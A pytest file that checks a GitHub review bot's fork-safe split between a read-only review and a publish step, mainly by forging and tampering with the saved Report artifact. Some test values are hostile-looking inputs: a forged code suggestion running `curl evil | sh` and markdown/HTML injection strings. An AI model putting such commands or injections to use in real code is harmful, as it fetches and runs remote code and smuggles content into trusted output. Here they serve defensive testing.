"""The fork-safe pair end to end: a read-only review saves the Report, `bot publish` validates and posts it.

Both phases run the real CLI code and the real client (PyGithub) against the stateful, schema-checked fake
GitHub of tests/ghapi.py. Request counts are the ones documented in docs/github.md.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bot.cli.main import build_parser
from bot.github import app, publish_cli
from bot.github.artifact import MAX_ARTIFACT_BYTES, ArtifactError, load_artifact
from bot.github.entry import settings
from bot.github.publish import decode_state
from tests import ghapi
from tests.conftest import github_client
from tests.helpers import AGENTS_AGT001
from tests.test_publish import mine

TOKEN = "ghs_forksafe0123456789"
BASE = {"AGENTS.md": AGENTS_AGT001, "a.py": "1\n"}
HEAD = {"tests/test_new.py": 'def test_new():\n    """Checks a bug fix."""\n    assert 1 + 1 == 2\n'}
READ_ONLY = (403, ghapi.error("Resource not accessible by integration"), {})
WRITES = [
    ("POST", "/repos/{owner}/{repo}/issues/{issue_number}/comments"),
    ("PATCH", "/repos/{owner}/{repo}/issues/comments/{comment_id}"),
    ("DELETE", "/repos/{owner}/{repo}/issues/comments/{comment_id}"),
    ("POST", "/repos/{owner}/{repo}/labels"),
    ("POST", "/repos/{owner}/{repo}/issues/{issue_number}/labels"),
    ("DELETE", "/repos/{owner}/{repo}/issues/{issue_number}/labels/{name}"),
    ("POST", "/repos/{owner}/{repo}/statuses/{sha}"),
    ("POST", "/repos/{owner}/{repo}/check-runs"),
]
# Phase 2 on a one-page pull request without a checkout checks first: pull, viewer, comments. It then
# recomputes the review through the API: files, the config at base (contents), the base tree (where AGENTS.md
# files are), one GraphQL blob query for AGENTS.md at base (the new test's text is its patch, which holds the
# whole added file) (+ reviews when the result is ready: only then does a label depend on approval), and
# reads the pull request again before writing. A first publish adds repo labels, add labels, status, comment
# and the comments read after it.
PUBLISH_CHECKS = 3
RECOMPUTE_READS = 4
PUBLISH_READS = PUBLISH_CHECKS + RECOMPUTE_READS + 1


def _env(tmp_path: Path, event: str, data: dict, name: str) -> dict:
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return {
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_REPOSITORY": "octo/repo",
        "GITHUB_EVENT_NAME": event,
        "GITHUB_EVENT_PATH": str(path),
    }


def added(text: str) -> str:
    """The API's patch of a file added with this text."""
    lines = text.splitlines()
    return f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)


def pull_state(r, base: dict = BASE, head: dict = HEAD) -> ghapi.PullState:
    """Pull request #7 of the repository r, served with its real patches and the files at both commits."""
    st = ghapi.PullState(head=r.git("rev-parse", "pr").strip(), base=r.git("rev-parse", "main").strip())
    st.files = [
        ghapi.pr_file(path, patch=added(text), status="added", changes=len(text.splitlines()))
        for path, text in head.items()
    ]
    st.trees = {st.base: dict(base), st.head: {**base, **head}}
    return st


@pytest.fixture
def fork(gh, make_repo, tmp_path):
    """A pull request #7 from the fork mallory/repo; phase 1 runs with a token GitHub refuses every write."""
    r = make_repo(BASE, HEAD)
    st = pull_state(r)
    st.head_repo = "mallory/repo"
    st.repo_labels = ["bug", "status:needs-work"]
    ghapi.serve(gh, st)
    return r, st


def phase1(gh, r, st, tmp_path: Path) -> Path:
    """`bot review --dry-run --output report.json` on the pull_request event, as the fork workflow runs it."""
    for key in WRITES:
        st.fail[key] = [READ_ONLY] * 10
    artifact = tmp_path / "artifact" / "report.json"
    args = build_parser().parse_args(
        ["review", "--dry-run", "--fail-level", "none", "--output", str(artifact), "--checkout", str(r.path)]
    )
    env = _env(tmp_path, "pull_request", ghapi.pr_event("synchronize", st), "pr-event")
    assert app.run(args, settings(env), github_client(gh)) == 0
    for key in WRITES:
        st.fail.pop(key)
    return artifact


def phase2(gh, st, tmp_path: Path, artifact: Path, *extra: str, event: dict | None = None) -> int:
    """`bot publish report.json` on the workflow_run event, with a token that may write; no checkout."""
    args = build_parser().parse_args(["publish", str(artifact), "--fail-level", "none", *extra])
    env = _env(tmp_path, "workflow_run", event or ghapi.run_event(st), "run-event")
    return publish_cli.run(args, settings(env), github_client(gh))


def _tamper(artifact: Path, **changes) -> Path:
    data = json.loads(artifact.read_text(encoding="utf-8"))
    data.update(changes)
    artifact.write_text(json.dumps(data), encoding="utf-8")
    return artifact


def test_phase1_with_a_read_only_token_writes_nothing_and_saves_the_report(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    assert gh.writes() == [] and len(gh.calls()) == 6  # pull, files, viewer, comments, pull, labels
    data = json.loads(artifact.read_text(encoding="utf-8"))
    assert data["repository"] == "octo/repo" and data["pr_number"] == 7 and data["head_sha"] == st.head
    assert data["verdict"] == "needs-work" and [f["rule"] for f in data["findings"]] == ["AGT001"]
    assert "Status comment: create" in capsys.readouterr().out  # the plan is shown, not written


def test_phase2_publishes_one_comment_labels_and_status(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    before = len(gh.calls())
    assert phase2(gh, st, tmp_path, artifact) == 0
    calls = gh.calls()[before:]
    writes = [c for c in calls if c[0] != "GET" and not c[1].endswith("/graphql")]
    assert len(calls) == PUBLISH_READS + 5 and len(writes) == 3, calls
    assert len(mine(st)) == 1 and st.labels == ["status:needs-work"]
    assert [(s["sha"], s["state"], s["context"]) for s in st.statuses] == [(st.head, "failure", "bot/review")]
    body = mine(st)[0]["body"]
    assert "AGT001" in body and decode_state(body).head == st.head
    assert "needs work" in capsys.readouterr().out


def test_phase2_again_writes_nothing(gh, fork, tmp_path):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    assert phase2(gh, st, tmp_path, artifact) == 0
    before, writes = len(gh.calls()), len(gh.writes())
    assert phase2(gh, st, tmp_path, artifact) == 0
    assert len(gh.calls()) - before == PUBLISH_READS
    assert len(gh.writes()) == writes and len(mine(st)) == 1


def test_phase2_renders_the_comment_itself_from_the_validated_report(gh, fork, tmp_path):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    data = json.loads(artifact.read_text(encoding="utf-8"))
    finding = {**data["findings"][0], "message": "ping @org/team <img src=x> [x](https://evil) <!-- x -->"}
    _tamper(artifact, findings=[finding], labels=["status:ready", "security-approved"])
    assert phase2(gh, st, tmp_path, artifact) == 0
    body = mine(st)[0]["body"]
    assert "@org" not in body and "<img" not in body and "[x](https://evil)" not in body
    assert body.count("<!--") == 2  # the marker and the state line, nothing from the artifact
    assert st.labels == ["status:needs-work"]  # labels follow the verdict and config, not the artifact


def _comment_planned(out: str) -> str:
    """The status comment body phase 1 printed in its dry-run plan."""
    return out.split("--- comment body ---\n", 1)[1].split("\n--- ", 1)[0].strip()


def test_honest_artifact_publishes_what_phase1_computed(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    planned = _comment_planned(capsys.readouterr().out)
    assert phase2(gh, st, tmp_path, artifact) == 0
    assert mine(st)[0]["body"].strip() == planned
    assert "disagreed" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "forge",
    [
        lambda data: {"verdict": "ready", "findings": [], "labels": ["status:ready"]},
        lambda data: {"findings": [{**data["findings"][0], "line": 2}]},
        lambda data: {"findings": [{**data["findings"][0], "path": "tests/test_other.py"}]},
    ],
    ids=["ready-without-findings", "other-line", "other-path"],
)
def test_forged_findings_are_not_published(gh, fork, tmp_path, capsys, forge):
    # Phase 1 runs the fork's own workflow file: it can save any Report for its own pull request and head.
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    planned = _comment_planned(capsys.readouterr().out)
    _tamper(artifact, **forge(json.loads(artifact.read_text(encoding="utf-8"))))
    before = len(gh.calls())
    assert phase2(gh, st, tmp_path, artifact) == 0
    assert len(gh.calls()) - before == PUBLISH_READS + 5  # the same requests as for an honest artifact
    assert st.labels == ["status:needs-work"]
    assert [s["state"] for s in st.statuses] == ["failure"]
    body = mine(st)[0]["body"]
    assert body.strip() == planned and "AGT001" in body and "line 1:" in body
    (line,) = [x for x in capsys.readouterr().err.splitlines() if "disagreed" in x]
    assert line.startswith("bot: the artifact disagreed with the review recomputed through the API")
    assert line.endswith("the recomputed result was published, not the artifact's.")


def test_forged_ready_in_dry_run_shows_the_recomputed_plan(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = _tamper(phase1(gh, r, st, tmp_path), verdict="ready", findings=[])
    capsys.readouterr()
    assert phase2(gh, st, tmp_path, artifact, "--dry-run") == 0
    captured = capsys.readouterr()
    assert gh.writes() == [] and mine(st) == []
    assert "Labels to add: ['status:needs-work']" in captured.out and "AGT001" in captured.out
    assert "(artifact: ready, 0 findings; recomputed: needs-work, 1 findings;" in captured.err
    assert "the recomputed result would be published" in captured.err


def test_forged_finding_on_a_clean_pull_request_is_dropped(gh, make_repo, tmp_path, capsys):
    # The other way round: the recomputed review, not the artifact, decides; a clean pull request is ready.
    head = {"tests/test_new.py": 'def test_new():\n    """Guards PR #7: checks a thing."""\n    assert 1\n'}
    r = make_repo(BASE, head)
    st = pull_state(r, BASE, head)
    st.head_repo = "mallory/repo"
    ghapi.serve(gh, st)
    artifact = phase1(gh, r, st, tmp_path)
    data = json.loads(artifact.read_text(encoding="utf-8"))
    assert data["verdict"] == "ready" and data["findings"] == []
    forged = {"rule": "AGT001", "name": "regression-test-without-reference", "severity": "error",
              "path": "tests/test_new.py", "line": 1, "message": "forged"}  # fmt: skip
    _tamper(artifact, verdict="needs-work", findings=[forged])
    before = len(gh.calls())
    assert phase2(gh, st, tmp_path, artifact) == 0
    # ready: the reviews are read too (only then does a label depend on approval), and the base branch's
    # rulesets and protection (what `ready.checks: required` waits on); both labels are created
    assert len(gh.calls()) - before == PUBLISH_READS + 1 + 2 + 5 + 2 == 18
    assert len(gh.writes()) == 5
    assert sorted(st.labels) == ["review:pending", "status:ready"]
    assert "forged" not in mine(st)[0]["body"] and [s["state"] for s in st.statuses] == ["success"]
    assert "(artifact: needs-work, 1 findings; recomputed: ready, 0 findings;" in capsys.readouterr().err


def test_head_moved_during_the_recomputation_publishes_nothing(gh, fork, tmp_path, capsys):
    r, st = fork
    # a forged artifact: the log must not claim a publication that did not happen
    artifact = _tamper(phase1(gh, r, st, tmp_path), verdict="ready", findings=[])
    st.heads_after = [st.head, "c" * 40]  # a push lands while phase 2 reads the files
    before = len(gh.calls())
    assert phase2(gh, st, tmp_path, artifact) == 0
    assert gh.writes() == [] and mine(st) == [] and len(gh.calls()) - before == PUBLISH_READS
    err = capsys.readouterr().err
    assert "not published: pull request #7 moved from" in err and "during this run" in err
    assert "disagreed" not in err


def test_same_repository_pull_request_is_matched_by_the_runs_list(gh, make_repo, tmp_path):
    r = make_repo(BASE, HEAD)
    st = pull_state(r)
    ghapi.serve(gh, st)
    artifact = phase1(gh, r, st, tmp_path)
    assert ghapi.run_event(st)["workflow_run"]["pull_requests"][0]["number"] == 7
    assert phase2(gh, st, tmp_path, artifact) == 0 and len(mine(st)) == 1


def _rejected(
    gh, st, tmp_path, artifact, capsys, *, published: bool = True, event: dict | None = None
) -> str:
    """Phase 2 on a rejected artifact: it says why, exits 2, and reviews the run's pull request through the
    API (published False: the run names no pull request the fallback finds, nothing is written then)."""
    assert phase2(gh, st, tmp_path, artifact, event=event) == 2
    err = capsys.readouterr().err
    line = next(x for x in err.splitlines() if "the Report artifact was rejected: " in x)
    assert line.endswith("the pull request of the triggering run is reviewed through the API instead.")
    if published:
        # The recomputed review, never the artifact's: the new test has no reference, so needs work.
        assert len(mine(st)) == 1 and st.labels == ["status:needs-work"]
        assert [(s["sha"], s["state"]) for s in st.statuses] == [(st.head, "failure")]
        assert "AGT001" in mine(st)[0]["body"]
    else:
        assert gh.writes() == [] and mine(st) == [] and st.statuses == [] and st.labels == []
    return line


@pytest.mark.parametrize(
    "changes, expected",
    [
        ({"pr_number": 8}, "for pull request #8, but the run was for #7"),
        ({"repository": "other/repo"}, "computed for 'other/repo', not octo/repo"),
        ({"head_sha": "0" * 40}, "computed for commit 000000000000, but the triggering run reviewed"),
        ({"verdict": "approved"}, "not a valid Report: verdict"),
        ({"findings": [{"rule": "AGT001"}]}, "not a valid Report: findings.0.name"),
        ({"schema_version": 2}, "not a version-1 Report"),
        ({"repository": None}, "names no repository"),
        ({"head_sha": "main"}, "names no head commit SHA"),
        ({"coverage": {"files_changed": 1, "files_reviewed": 1}, "extra": 1}, "extra: Extra inputs"),
    ],
    ids=["wrong-pr", "wrong-repository", "old-head-sha", "bad-verdict", "bad-finding", "version",
         "no-repository", "bad-sha", "unknown-key"],
)  # fmt: skip
def test_tampered_artifact_is_rejected_before_any_request(gh, make_repo, tmp_path, capsys, changes, expected):
    r = make_repo(BASE, HEAD)
    st = pull_state(r)
    ghapi.serve(gh, st)
    artifact = _tamper(phase1(gh, r, st, tmp_path), **changes)
    assert expected in _rejected(gh, st, tmp_path, artifact, capsys)


@pytest.mark.parametrize(
    "content, expected",
    [
        (b"{not json", "not valid JSON"),
        (b"[1, 2]", "not a version-1 Report"),
        (b"[" * 100_000 + b"]" * 100_000, "not valid JSON"),
    ],
    ids=["not-json", "not-an-object", "deep-nesting"],
)
def test_unreadable_artifact_is_rejected(gh, fork, tmp_path, capsys, content, expected):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    artifact.write_bytes(content)
    assert expected in _rejected(gh, st, tmp_path, artifact, capsys)


def test_oversize_artifact_is_rejected_unread(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    text = artifact.read_text(encoding="utf-8")
    artifact.write_text(text[:-2] + " " * MAX_ARTIFACT_BYTES + "}\n", encoding="utf-8")
    assert "over the 4,194,304-byte limit" in _rejected(gh, st, tmp_path, artifact, capsys)


@pytest.mark.parametrize(
    "field, value, expected",
    [
        ("rule", "<!-- bot-review:status -->", "is not one of the bot's rules"),
        ("name", "regression-test-without-reference](https://evil)", "is not one of the bot's rules"),
        ("severity", "fatal", "findings.0.severity"),
    ],
)
def test_values_shown_unescaped_must_be_the_bots_own(gh, fork, tmp_path, capsys, field, value, expected):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    data = json.loads(artifact.read_text(encoding="utf-8"))
    _tamper(artifact, findings=[{**data["findings"][0], field: value}])
    assert expected in _rejected(gh, st, tmp_path, artifact, capsys)


def test_ready_with_error_findings_is_rejected(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = _tamper(phase1(gh, r, st, tmp_path), verdict="ready")
    assert "says ready although" in _rejected(gh, st, tmp_path, artifact, capsys)


@pytest.mark.parametrize(
    "event_args, message",
    [
        # GitHub lists no pull requests on a fork's run: the pull request's own head repository must match.
        ({"head_repo": "eve/repo"}, "does not come from the repository the triggering run was for"),
        ({"head_branch": "other"}, "does not come from the branch"),
    ],
)
def test_run_that_does_not_match_the_pull_request_is_rejected(
    gh, fork, tmp_path, capsys, event_args, message
):
    """The run's own head (eve's, or another branch) has no open pull request: none found, nothing written."""
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    event = ghapi.run_event(st, **event_args)
    if "head_repo" in event_args:
        assert event["workflow_run"]["pull_requests"] == []
    assert message in _rejected(gh, st, tmp_path, artifact, capsys, published=False, event=event)
    assert ("GET", "/repos/octo/repo/pulls") in gh.calls()


def test_run_for_another_event_is_refused_before_any_request(gh, fork, tmp_path):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    before = len(gh.calls())
    with pytest.raises(app.ReviewError, match="for a push event"):
        phase2(gh, st, tmp_path, artifact, event=ghapi.run_event(st, event="push"))
    assert len(gh.calls()) == before and gh.writes() == []


def test_head_moved_since_the_review_publishes_nothing(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    event = ghapi.run_event(st)
    st.head = "c" * 40  # pushed again after phase 1 ran
    before = len(gh.calls())
    assert phase2(gh, st, tmp_path, artifact, event=event) == 0
    assert gh.writes() == [] and len(gh.calls()) - before == 1 and mine(st) == []
    assert "not published: pull request #7 moved from" in capsys.readouterr().err


def test_closed_pull_request_publishes_nothing(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    st.state = "closed"
    before = len(gh.calls())
    assert phase2(gh, st, tmp_path, artifact) == 0
    assert gh.writes() == [] and len(gh.calls()) - before == 1
    assert "pull request #7 is closed" in capsys.readouterr().err


def test_waiver_the_status_comment_does_not_record_is_rejected(gh, fork, tmp_path, capsys):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    forged = {"rule": "AGT001", "reason": "trust me", "by": "maintainer", "at": "2026-01-01T00:00:00Z"}
    _tamper(artifact, findings=[], verdict="ready", waivers=[{**forged, "fingerprint": "0" * 16}])
    message = _rejected(gh, st, tmp_path, artifact, capsys)
    assert "waiver of 'AGT001' is not recorded in the bot's status comment" in message


def test_missing_repository_setting_and_non_workflow_run_event(gh, fork, tmp_path):
    r, st = fork
    artifact = phase1(gh, r, st, tmp_path)
    args = build_parser().parse_args(["publish", str(artifact)])
    env = _env(tmp_path, "pull_request", ghapi.pr_event("synchronize", st), "e")
    with pytest.raises(app.ReviewError, match="runs on a workflow_run event, not pull_request"):
        publish_cli.run(args, settings(env), github_client(gh))
    with pytest.raises(app.ReviewError, match="no repository"):
        publish_cli.run(args, settings({**env, "GITHUB_REPOSITORY": ""}), github_client(gh))


def test_cli_prints_one_line_and_exits_2(fork, tmp_path, capsys, monkeypatch):
    from bot.cli.main import main

    artifact = tmp_path / "report.json"
    artifact.write_text("{}", encoding="utf-8")
    r, st = fork
    for key, value in _env(tmp_path, "workflow_run", ghapi.run_event(st), "run").items():
        monkeypatch.setenv(key, value)
    assert main(["publish", str(artifact)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("bot: the Report artifact was rejected") and "Traceback" not in err
    assert TOKEN not in err


def test_load_artifact_accepts_what_review_saves(gh, fork, tmp_path):
    r, st = fork
    report = load_artifact(phase1(gh, r, st, tmp_path).read_bytes())
    assert report.pr_number == 7 and report.repository == "octo/repo"
    with pytest.raises(ArtifactError, match="byte limit"):
        load_artifact(b"{}", limit=1)


def test_config_path_is_read_at_base_in_both_phases(gh, make_repo, tmp_path):
    config = "labels:\n  needs_work: bot:fix\n"
    # The head's copy would switch the label back: only the base's counts.
    base, head = {**BASE, "ci/bot.yml": config}, {**HEAD, "ci/bot.yml": "labels:\n  needs_work: x\n"}
    r = make_repo(base, head)
    st = pull_state(r, base, head)
    st.head_repo = "mallory/repo"
    ghapi.serve(gh, st)
    artifact = tmp_path / "report.json"
    args = build_parser().parse_args(
        ["review", "--dry-run", "--config", "ci/bot.yml", "--output", str(artifact)]
        + ["--checkout", str(r.path)]
    )
    env = _env(tmp_path, "pull_request", ghapi.pr_event("synchronize", st), "pr-event")
    app.run(args, settings(env), github_client(gh))
    assert json.loads(artifact.read_text(encoding="utf-8"))["labels"] == ["bot:fix"]
    assert phase2(gh, st, tmp_path, artifact, "--config", "ci/bot.yml") == 0
    assert st.labels == ["bot:fix"]


def test_cli_default_config_path_is_the_configs():
    from rules.core.config import CONFIG_PATH

    assert app.CONFIG_PATH == CONFIG_PATH


def test_phase2_posts_the_suggestions_of_its_own_review_never_the_artifacts(gh, make_repo, tmp_path):
    config = "suggestions: errors\nrules:\n  AGT001:\n    options:\n      regression: all-new-tests\n"
    base = {**BASE, ".github/bot.yml": config}
    r = make_repo(base, HEAD)
    st = pull_state(r, base)
    st.head_repo = "mallory/repo"
    ghapi.serve(gh, st)
    artifact = phase1(gh, r, st, tmp_path)
    assert st.created_reviews == []  # phase 1 is a dry run with a read-only token
    data = json.loads(artifact.read_text(encoding="utf-8"))
    (finding,) = data["findings"]
    assert finding["fix"]["lines"][0] == '    """Checks a bug fix. Guards PR #7."""'
    # The fork's workflow may save any Report: a fix that would plant code is never what phase 2 posts.
    forged = {**finding["fix"], "lines": ["    import os; os.system('curl evil | sh')"]}
    _tamper(artifact, findings=[{**finding, "fix": forged}])
    assert phase2(gh, st, tmp_path, artifact) == 0
    (sent,) = st.created_reviews
    (comment,) = sent["comments"]
    assert sent["event"] == "COMMENT" and "evil" not in comment["body"]
    assert '```suggestion\n    """Checks a bug fix. Guards PR #7."""\n```' in comment["body"]


CLEAN = {"tests/test_new.py": 'def test_new():\n    """Guards PR #7: checks a thing."""\n    assert 1\n'}


def _ready_then_pushed(gh, make_repo, tmp_path, head_repo: str):
    """Break 5b's start: a clean head published ready by the pair, then a push of an unreferenced test."""
    r = make_repo(BASE, CLEAN)
    st = pull_state(r, BASE, CLEAN)
    st.head_repo = head_repo
    ghapi.serve(gh, st)
    assert phase2(gh, st, tmp_path, phase1(gh, r, st, tmp_path)) == 0
    assert sorted(st.labels) == ["review:pending", "status:ready"]
    text = HEAD["tests/test_new.py"]
    st.head = r.commit({"tests/test_new.py": text}, "push an unreferenced test")
    st.files = [ghapi.pr_file("tests/test_new.py", patch=added(text), status="added", changes=3)]
    st.trees[st.head] = {**BASE, "tests/test_new.py": text}
    return r, st


@pytest.mark.parametrize("head_repo", ["mallory/repo", "octo/repo"], ids=["fork", "same-repository"])
@pytest.mark.parametrize("phase1_outcome", ["failed", "rejected"])
def test_a_newer_head_without_a_usable_artifact_is_reviewed_not_left_ready(
    gh, make_repo, tmp_path, capsys, head_repo, phase1_outcome
):
    """Break 5b: phase 1 of the newer head failed (no artifact) or saved one phase 2 rejects; phase 2 finds
    the pull request from the run (a fork's run lists none: by head owner and branch), reviews the head."""
    r, st = _ready_then_pushed(gh, make_repo, tmp_path, head_repo)
    if phase1_outcome == "failed":
        artifact, conclusion = tmp_path / "no-artifact" / "report.json", "failure"
    else:
        artifact, conclusion = _tamper(phase1(gh, r, st, tmp_path), verdict="approved"), "success"
    capsys.readouterr()
    code = phase2(gh, st, tmp_path, artifact, event=ghapi.run_event(st, conclusion=conclusion))
    assert code == (0 if phase1_outcome == "failed" else 2)
    assert st.labels == ["status:needs-work"]
    body = mine(st)[0]["body"]
    assert decode_state(body).head == st.head and "AGT001" in body and len(mine(st)) == 1
    assert (st.statuses[-1]["sha"], st.statuses[-1]["state"]) == (st.head, "failure")
    listed = ("GET", "/repos/octo/repo/pulls") in gh.calls()
    assert listed is (head_repo == "mallory/repo")
    err = capsys.readouterr().err
    assert ("no Report artifact" in err) is (phase1_outcome == "failed")


def test_a_newer_head_that_cannot_be_reviewed_loses_ready_and_the_comment_says_stale(
    gh, make_repo, tmp_path, capsys
):
    """Even the review through the API fails (the config cannot be read): ready goes, the status fails."""
    r, st = _ready_then_pushed(gh, make_repo, tmp_path, "mallory/repo")
    old_head = decode_state(mine(st)[0]["body"]).head
    st.fail[("GET", "/repos/{owner}/{repo}/contents/{path}")] = [(500, ghapi.error("Server Error"), {})] * 30
    with pytest.raises(app.ReviewError, match="not marked ready") as info:
        phase2(gh, st, tmp_path, tmp_path / "none.json", event=ghapi.run_event(st, conclusion="failure"))
    assert "removed ['review:pending', 'status:ready']" in str(info.value)
    assert st.labels == ["status:needs-work"]
    assert (st.statuses[-1]["sha"], st.statuses[-1]["state"]) == (st.head, "failure")
    body = mine(st)[0]["body"]
    assert "**Not current.**" in body and old_head[:12] in body and st.head[:12] in body
    assert body.startswith("<!-- bot-review:status -->\n> [!WARNING]")


def test_a_run_whose_pull_request_moved_on_writes_nothing(gh, make_repo, tmp_path, capsys):
    r, st = _ready_then_pushed(gh, make_repo, tmp_path, "mallory/repo")
    event = ghapi.run_event(st, conclusion="failure")
    st.head = "e" * 40  # pushed again: that run publishes its own
    before = len(gh.writes())
    assert phase2(gh, st, tmp_path, tmp_path / "none.json", event=event) == 0
    assert len(gh.writes()) == before and "not published: pull request #7 moved" in capsys.readouterr().err
